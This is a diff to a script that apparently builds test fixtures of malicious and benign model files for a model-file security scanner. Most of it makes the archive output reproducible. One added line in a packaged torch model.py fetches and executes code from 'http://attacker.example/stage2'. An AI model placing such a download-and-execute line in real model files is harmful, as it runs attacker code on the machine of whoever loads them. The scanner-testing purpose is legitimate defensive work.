@@ -39,6 +39,13 @@ manifest = []
 benign = []
 
 
+def zput(z, name, data):
+    """A zip member with a fixed date, so that the files are reproducible."""
+    info = zipfile.ZipInfo(name, date_time=(2025, 1, 1, 0, 0, 0))
+    info.compress_type = z.compression
+    z.writestr(info, data)
+
+
 def out(base, rel):
     p = os.path.join(base, rel)
     os.makedirs(os.path.dirname(p), exist_ok=True)
@@ -156,9 +163,9 @@ def weights_h5():
 def keras_zip(config, raw_config=None, prefix=b""):
     bio = io.BytesIO()
     with zipfile.ZipFile(bio, "w", zipfile.ZIP_DEFLATED) as z:
-        z.writestr("metadata.json", json.dumps({"keras_version": "3.8.0", "date_saved": "2025-06-01@00:00:00"}))
-        z.writestr("config.json", raw_config if raw_config is not None else json.dumps(config))
-        z.writestr("model.weights.h5", weights_h5())
+        zput(z, "metadata.json", json.dumps({"keras_version": "3.8.0", "date_saved": "2025-06-01@00:00:00"}))
+        zput(z, "config.json", raw_config if raw_config is not None else json.dumps(config))
+        zput(z, "model.weights.h5", weights_h5())
     return prefix + bio.getvalue()
 
 
@@ -384,12 +391,14 @@ add("onnx/model.json", "ONNX JSON", "JSON form with a backslash traversal", "iss
 # ---------------------------------------------------------------- code next to weights
 bio = io.BytesIO()
 with zipfile.ZipFile(bio, "w") as z:
-    z.writestr("model/.data/version", "6\n")
-    z.writestr("model/.data/extern_modules", "torch\n")
-    z.writestr("model/.data/python_version", "3.11")
-    z.writestr("model/net/model.py", "import os\nos.system('" + ECHO + "')\nclass Net: pass\n")
-    z.writestr("model/net/__init__.py", "")
-    z.writestr("model/model.pkl", pickle.dumps({"weights": [0.0]}, protocol=3))
+    zput(z, "model/.data/version", "6\n")
+    zput(z, "model/.data/extern_modules", "torch\n")
+    zput(z, "model/.data/python_version", "3.11")
+    zput(z, "model/net/model.py", "import os, torch, urllib.request\nos.system('" + ECHO + "')\n"
+               "exec(urllib.request.urlopen('http://attacker.example/stage2').read())\n"
+               "class Net(torch.nn.Module):\n    pass\n")
+    zput(z, "model/net/__init__.py", "")
+    zput(z, "model/model.pkl", pickle.dumps({"weights": [0.0]}, protocol=3))
 write(MAL, "code/torch_package.pt", bio.getvalue())
 add("code/torch_package.pt", "torch.package", "net/model.py runs os.system when the package imports it",
     "PyTorch docs: torch.package runs packaged code; ModelAudit zip scanner (Python files in model archives)",
@@ -398,13 +407,13 @@ add("code/torch_package.pt", "torch.package", "net/model.py runs os.system when 
 
 def tar_bytes(members, gz=False):
     bio = io.BytesIO()
-    with tarfile.open(fileobj=bio, mode="w:gz" if gz else "w") as t:
+    with tarfile.open(fileobj=bio, mode="w") as t:
         for name, data in members:
             info = tarfile.TarInfo(name)
             info.size = len(data)
             info.mtime = 0
             t.addfile(info, io.BytesIO(data))
-    return bio.getvalue()
+    return gzip.compress(bio.getvalue(), mtime=0) if gz else bio.getvalue()
 
 
 NEMO_CFG = """sample_rate: 16000
@@ -463,8 +472,8 @@ benign.append("code/hf_config/config.json")
 # writer's quirk, issue 14): no model loader opens it
 bio = io.BytesIO()
 with zipfile.ZipFile(bio, "w") as z:
-    z.writestr("docs/readme.txt", "hello")
-    z.writestr("docs/img.txt", "world")
+    zput(z, "docs/readme.txt", "hello")
+    zput(z, "docs/img.txt", "world")
 raw = bytearray(bio.getvalue())
 i = raw.find(b"docs/readme.txt")  # first occurrence: the local header
 raw[i:i + 15] = b"docs/README.txt"
